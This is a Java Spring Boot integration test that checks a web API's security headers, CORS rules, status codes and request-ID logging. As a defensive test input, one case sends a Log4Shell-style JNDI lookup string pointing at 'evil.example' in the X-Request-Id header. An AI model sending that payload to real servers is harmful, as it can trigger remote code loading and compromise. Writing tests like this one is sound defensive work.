package dev.storeys.platform.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import org.springframework.boot.test.web.server.LocalServerPort;
import tools.jackson.databind.json.JsonMapper;

/**
 * What a process that is an entry itself answers to browsers and to whoever asks about requests.
 */
@ExtendWith(OutputCaptureExtension.class)
@SpringBootTest(
        classes = ApiBehaviourIntegrationTests.Application.class,
        webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT,
        properties = {
            "spring.config.import=classpath:storeys-platform.yml",
            "management.server.port=0",
            "storeys.web.max-body=10KB",
            "storeys.web.allowed-origins=https://shop.example"
        })
class EntryBehaviourIntegrationTests {

    private static final String HOME = "https://shop.example";
    private static final String ALLOWED = "Access-Control-Allow-Origin";

    @LocalServerPort int port;

    private final HttpClient http = HttpClient.newHttpClient();

    @ParameterizedTest
    @CsvSource({
        "/open/number?value=1, 200",
        "/open/number?value=x, 400",
        "/open/nothing, 404",
        "/closed, 401",
        "/open/defect, 500"
    })
    void tellsBrowsersWhatNotToDoWithAnAnswer(String path, int status) throws Exception {
        HttpResponse<String> answer = send(to(path));

        assertThat(answer.statusCode()).isEqualTo(status);
        BrowserHeaders.ALWAYS.forEach((name, value) ->
                assertThat(answer.headers().allValues(name)).as(name).containsExactly(value));
        assertThat(answer.headers().map())
                .doesNotContainKeys("server", "x-powered-by", "strict-transport-security");
    }

    @Test
    void tellsThemEvenWhenNoFilterHasSeenTheRequest() throws Exception {
        String answer = raw("GET /open/<> HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");

        assertThat(answer).contains("X-Content-Type-Options: nosniff");
        String id = answer.replaceFirst("(?s).*X-Request-Id: ([0-9a-f]+).*", "$1");
        assertThat(answer).contains("\"traceId\":\"" + id + "\"");
    }

    @Test
    void letsItsPagesAskForEverythingTheyNeed() throws Exception {
        HttpResponse<String> leave =
                preflight(HOME, "PATCH", "authorization,content-type,idempotency-key");

        assertThat(leave.statusCode()).isEqualTo(200);
        assertThat(leave.headers().allValues(ALLOWED)).containsExactly(HOME);
        assertThat(leave.headers().firstValue("Access-Control-Allow-Methods").orElse(""))
                .contains("PATCH");
        assertThat(leave.headers().firstValue("Access-Control-Allow-Headers").orElse(""))
                .containsIgnoringCase("idempotency-key");
        assertThat(leave.headers().firstValue("Access-Control-Allow-Credentials")).isEmpty();
    }

    @Test
    void showsItsPagesTheRefusalsAndWhatStandsAboveThem() throws Exception {
        HttpResponse<String> refusal = send(to("/api/v1/orders").header("Origin", HOME));

        assertThat(refusal.statusCode()).isEqualTo(401);
        assertThat(refusal.headers().allValues(ALLOWED)).containsExactly(HOME);
        assertThat(refusal.headers().firstValue("Access-Control-Expose-Headers").orElse(""))
                .contains("Retry-After", "Location", "X-Served-By", "RateLimit", "X-Request-Id");
    }

    @ParameterizedTest
    @CsvSource({
        "https://evil.example, GET",
        "https://shop.example:8443, GET",
        "null, GET",
        "https://shop.example, TRACE"
    })
    void isClosedToAllOthers(String origin, String method) throws Exception {
        HttpResponse<String> leave = preflight(origin, method, "authorization");

        assertThat(leave.statusCode()).isEqualTo(403);
        assertThat(leave.body()).contains("urn:storeys:problem:foreign-origin");
        assertThat(leave.headers().firstValue(ALLOWED)).isEmpty();
    }

    @Test
    void writesTheClientsIdIntoTheLogLines(CapturedOutput output) throws Exception {
        HttpResponse<String> answer =
                send(to("/open/defect").header("X-Request-Id", "ask-me-4711"));

        assertThat(answer.headers().allValues("X-Request-Id")).containsExactly("ask-me-4711");
        String trace = traceId(answer);
        assertThat(output.getOut().lines().filter(line -> line.contains("Unexpected failure")))
                .anySatisfy(line -> assertThat(line).contains("request=ask-me-4711", trace));
    }

    @Test
    void givesTheTraceAsIdWhenTheClientHasNone(CapturedOutput output) throws Exception {
        HttpResponse<String> answer = send(to("/open/defect"));

        String trace = traceId(answer);
        assertThat(answer.headers().allValues("X-Request-Id")).containsExactly(trace);
        assertThat(output.getOut().lines().filter(line -> line.contains("Unexpected failure")))
                .anySatisfy(line -> assertThat(line).contains(trace).doesNotContain("request="));
    }

    @ParameterizedTest
    @ValueSource(strings = {"short", "a b c d e f g h", "${jndi:ldap://evil.example/a}"})
    void takesNoIdThatCouldDoHarm(String id) throws Exception {
        HttpResponse<String> answer = send(to("/open/number?value=1").header("X-Request-Id", id));

        assertThat(answer.headers().allValues("X-Request-Id"))
                .singleElement()
                .asString()
                .matches("[0-9a-f]{32}");
    }

    private static String traceId(HttpResponse<String> answer) {
        return JsonMapper.shared().readTree(answer.body()).get("traceId").stringValue();
    }

    private HttpResponse<String> preflight(String origin, String method, String headers)
            throws Exception {
        return send(
                to("/api/v1/orders")
                        .method("OPTIONS", HttpRequest.BodyPublishers.noBody())
                        .header("Origin", origin)
                        .header("Access-Control-Request-Method", method)
                        .header("Access-Control-Request-Headers", headers));
    }

    private HttpRequest.Builder to(String path) {
        return HttpRequest.newBuilder(URI.create("http://localhost:" + port + path));
    }

    private HttpResponse<String> send(HttpRequest.Builder request) throws Exception {
        return http.send(request.build(), HttpResponse.BodyHandlers.ofString());
    }

    private String raw(String request) throws IOException {
        try (Socket socket = new Socket("localhost", port)) {
            socket.getOutputStream().write(request.getBytes(StandardCharsets.ISO_8859_1));
            return new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        }
    }
}
